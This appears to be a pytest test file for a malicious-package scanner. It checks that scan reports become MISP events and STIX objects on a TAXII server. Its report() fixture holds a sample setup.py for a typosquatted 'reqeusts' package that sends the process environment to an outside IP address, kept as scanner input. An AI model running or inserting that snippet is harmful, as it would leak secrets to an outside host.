"""MISP and TAXII: judged by the formats' own libraries and clients, the TAXII server a foreign one."""

from __future__ import annotations

import asyncio
import hashlib
import json
import threading
from collections.abc import Iterator
from typing import Any
from uuid import uuid4

import pytest
import stix2
from aiohttp import web
from pymisp import MISPEvent, PyMISP
from werkzeug.serving import make_server

from pumpkin.adapters.modules import Away, Failed, Refused
from pumpkin.analysis import static
from tests.adapters.modules.conftest import EVIL, Make, Target, item

KEY = "k" * 40
STAMP = {"token": b"token of an authority".hex(), "anchor": b"anchor".hex(), "gen_time": "2026-11-21T10:00:01+00:00"}


class MispServer:
    """An instance, as far as a writer and PyMISP see it: it keeps events that MISP's own library can load."""

    def __init__(self) -> None:
        self.events: dict[str, dict[str, Any]] = {}
        self.edited = self.published = 0

    def answer(self, request: web.Request, body: bytes) -> web.Response:
        if request.headers.get("Authorization") != KEY:
            return web.json_response({"name": "Authentication failed", "message": "Authentication failed"}, status=403)
        path = request.path.strip("/")
        if path.startswith("events/view/"):
            found = self.events.get(path.rpartition("/")[2])
            return (
                web.json_response({"Event": found})
                if found
                else web.json_response({"name": "Invalid event."}, status=404)
            )
        if path == "events/add" or path.startswith("events/edit/"):
            return self._keep(json.loads(body), edit="edit" in path)
        if path.startswith("events/publish/"):
            self.published += 1
            return web.json_response({"message": "Job queued"})
        known = {
            "servers/getVersion": {"version": "2.5.34", "perm_sync": True, "perm_sighting": True},
            "servers/getPyMISPVersion.json": {"version": "2.5.34"},
            "users/view/me": {"User": {"id": "1", "email": "a@b"}, "Role": {"id": "1"}, "UserSetting": []},
            "attributes/describeTypes.json": {"result": MISPEvent().describe_types},
        }
        return web.json_response(known.get(path, {"name": "Not Found"}), status=200 if path in known else 404)

    def _keep(self, given: dict[str, Any], *, edit: bool) -> web.Response:
        event = given.get("Event", given)
        made = MISPEvent()
        made.from_dict(**json.loads(json.dumps(event)))
        if not made.info or "refuse me" in made.info:
            errors = {
                "saved": False,
                "name": "Could not add Event",
                "errors": {"Event": {"info": ["Info cannot be empty."]}},
            }
            return web.json_response(errors, status=403)
        assert edit is (event["uuid"] in self.events)
        self.edited += edit
        self.events[event["uuid"]] = event
        return web.json_response({"Event": {"id": "7", **event}})


def report() -> tuple[dict[str, Any], dict[str, Any]]:
    """What a check of a report says, and the report's document as it is kept."""
    source = b"import os, urllib.request\nurllib.request.urlopen('http://198.51.100.9/?' + str(os.environ))\n"
    scanned = static.scan_files({"setup.py": source}, "reqeusts-1.0", "pypi").as_json()
    document = {
        "metadata": {
            "created_at": "2026-11-21T10:00:00.000000Z",
            "package": {"name": "reqeusts", "version": "1.0", "ecosystem": "pypi", "purl": "pkg:pypi/reqeusts@1.0"},
        },
        "analysis_results": {
            "verdict": {key: scanned[key] for key in ("outcome", "score", "why", "not_checked")},
            "findings": scanned["findings"],
            "artifact": {"name": "reqeusts-1.0.tar.gz", "sha256": "ab" * 32, "size": 120},
            "rules": scanned["rules"],
        },
    }
    said = {"report_sha256": "cd" * 32, "outcome": scanned["outcome"], "purl": "pkg:pypi/reqeusts@1.0"}
    return said, document


def reported(**more: Any) -> Any:
    said, document = report()
    return item(
        topic="report.ready", subject="malicious: pkg:pypi/reqeusts@1.0", target="pkg:pypi/reqeusts@1.0",
        data={"report": said}, report=document, proof={"stamps": [STAMP]}, **more,
    )  # fmt: skip


async def test_a_report_becomes_an_event_with_objects_and_the_proof_of_its_time(target: Target, module: Make) -> None:
    server = MispServer()
    target.usual = server.answer
    misp = await module("misp", target.url(), key=KEY, tags=["tlp:amber"], distribution="community", publish=True)
    one = reported()
    await misp.deliver([one])
    await misp.deliver([one])
    assert (len(server.events), server.edited, server.published) == (1, 1, 2)
    (number,) = server.events

    def read() -> Any:
        client = PyMISP(target.url().rstrip("/"), KEY, ssl=False, timeout=5)
        return client.get_event(number, pythonify=True)

    event = await asyncio.to_thread(read)
    assert isinstance(event, MISPEvent), event
    assert [one.name for one in event.objects] == ["file", "malicious-package-report", "trusted-timestamp"]
    assert event.objects[1].get_attributes_by_relation("package-purl")[0].value == "pkg:pypi/reqeusts@1.0"
    stamp = event.objects[2]
    assert stamp.get_attributes_by_relation("trusted-timestamp-response")[0].data.getvalue() == b"token of an authority"
    assert stamp.get_attributes_by_relation("hash-sha256")[0].value == hashlib.sha256(b"anchor").hexdigest()
    assert {"tlp:amber"} <= {tag.name for tag in event.tags}
    assert (event.distribution, event.info) == (1, f"reqeusts was judged malicious (score {_score()} of 100).")
    assert [one.value for one in event.attributes if one.type == "link"] == ["https://pumpkin.example/checks/1"]


def _score() -> int:
    return int(report()[1]["analysis_results"]["verdict"]["score"])


async def test_a_check_becomes_an_event_whose_text_stays_text(target: Target, module: Make) -> None:
    server = MispServer()
    target.usual = server.answer
    misp = await module("misp", target.url(), key=KEY)
    one = item(proof={"stamps": [STAMP]})
    await misp.deliver([one])
    (kept,) = server.events.values()
    event = MISPEvent()
    event.from_dict(**kept)
    values = {attribute.type: attribute.value for attribute in event.attributes}
    assert values["ip-dst"] == "198.51.100.7"
    assert json.loads(values["text"])["data"]["payload"]["text"] == EVIL
    assert not set("\r\n\x00\x1b\u202e") & set(event.info)
    assert [each.name for each in event.objects] == ["trusted-timestamp"]
    assert event.threat_level_id == 1


async def test_misp_refusing_an_event_is_told_from_misp_refusing_us(target: Target, module: Make) -> None:
    target.usual = MispServer().answer
    with pytest.raises(Refused, match="Info cannot be empty"):
        await (await module("misp", target.url(), key=KEY)).deliver([item(subject="refuse me")])
    with pytest.raises(Away, match="403"):
        await (await module("misp", target.url(), key="wrong")).deliver([item()])
    misp = await module("misp", target.url(), key=KEY)
    target.answers = [web.json_response({"name": "Invalid event."}, status=404), web.Response(text="<html>")]
    with pytest.raises(Failed):
        await misp.deliver([item()])


COLLECTION = "91a7b528-80eb-42ed-a74d-c6fbd5a26116"


@pytest.fixture(scope="module")
def medallion() -> Iterator[str]:
    """OASIS's own TAXII 2.1 server with one empty collection; the address of its API root."""
    import medallion as server

    data = {
        "/discovery": {"title": "test", "default": "http://localhost/root/", "api_roots": ["http://localhost/root/"]},
        "root": {
            "information": {
                "title": "root",
                "versions": ["application/taxii+json;version=2.1"],
                "max_content_length": 10_000_000,
            },
            "status": [],
            "collections": [
                {"id": COLLECTION, "title": "ours", "can_read": True, "can_write": True, "objects": [], "manifest": [],
                 "media_types": ["application/stix+json;version=2.1"]}
            ],
        },
    }  # fmt: skip
    app = server.application_instance
    settings = {
        "users": {"pumpkin": "hunter2"},
        "backend": {"module_class": "MemoryBackend", "filename": None},
        "taxii": {"max_page_size": 100},
    }
    server.set_config(app, "users", settings)
    server.set_config(app, "taxii", settings)
    from medallion.backends.memory_backend import MemoryBackend

    backend = MemoryBackend()
    backend.data = data
    app.medallion_backend = backend
    server.register_blueprints(app)
    http = make_server("127.0.0.1", 0, app)
    thread = threading.Thread(target=http.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{http.server_port}/root/"
    http.shutdown()
    thread.join(5)


async def test_a_foreign_taxii_server_takes_items_and_its_client_reads_them_back(medallion: str, module: Make) -> None:
    from taxii2client.v21 import Collection

    taxii = await module("taxii", medallion, collection=COLLECTION, user="pumpkin", password="hunter2")
    several = [item(), reported(), item(target="not a target of any kind", agent="")]
    for _ in range(2):
        assert await taxii.deliver(several) == [None, None, None]

    def read() -> list[dict[str, Any]]:
        collection = Collection(f"{medallion}collections/{COLLECTION}/", user="pumpkin", password="hunter2")
        found: list[dict[str, Any]] = collection.get_objects()["objects"]
        collection.close()
        return found

    found = await asyncio.to_thread(read)
    kinds = [stix2.parse(one, allow_custom=False).type for one in found]
    assert len({one["id"] for one in found}) == len(found), "brought twice, there once"
    assert kinds.count("malware-analysis") == 1
    assert kinds.count("observed-data") == 1
    notes = [one for one in found if one["type"] == "note" and "abstract" in one]
    assert len(notes) == 2
    assert all(not set("\r\n\x00\x1b\u202e") & set(one["abstract"]) for one in notes)
    assert any(json.loads(one["content"])["data"]["payload"]["text"] == EVIL for one in notes)


async def test_taxii_answers_decide_what_becomes_of_items(medallion: str, target: Target, module: Make) -> None:
    wrong = await module("taxii", medallion, collection=COLLECTION, user="pumpkin", password="wrong")
    with pytest.raises(Away, match="401"):
        await wrong.deliver([item()])
    missing = await module("taxii", medallion, collection=str(uuid4()), user="pumpkin", password="hunter2")
    with pytest.raises(Away, match="404"):
        await missing.deliver([item()])

    taxii = await module("taxii", target.url("/root/"), collection=COLLECTION, token="t")
    bad = item(id=uuid4())
    refused: list[str] = []

    def some(request: web.Request, body: bytes) -> web.Response:
        if request.method == "GET":
            return web.json_response({"id": "s-1", "status": "complete", "failure_count": 1, "failures": refused})
        note = [one["id"] for one in json.loads(body)["objects"] if one["type"] == "note"][-1]
        refused[:] = [{"id": note, "version": "1", "message": "too old"}]  # type: ignore[list-item]
        return web.json_response({"id": "s-1", "status": "pending", "pending_count": 4}, status=202)

    target.usual = some
    outcomes = await taxii.deliver([item(), bad])
    assert outcomes is not None
    assert outcomes[0] is None
    assert isinstance(outcomes[1], Refused)
    assert target.asked[0][2]["Authorization"] == "Bearer t"
    assert target.asked[0][2]["Content-Type"] == "application/taxii+json;version=2.1"
    for garbage in ("{}", "[]", "<html>", '{"status": "pending", "id": "../../x"}'):
        target.answers = [web.Response(text=garbage, status=202)]
        with pytest.raises(Failed):
            await taxii.deliver([item()])
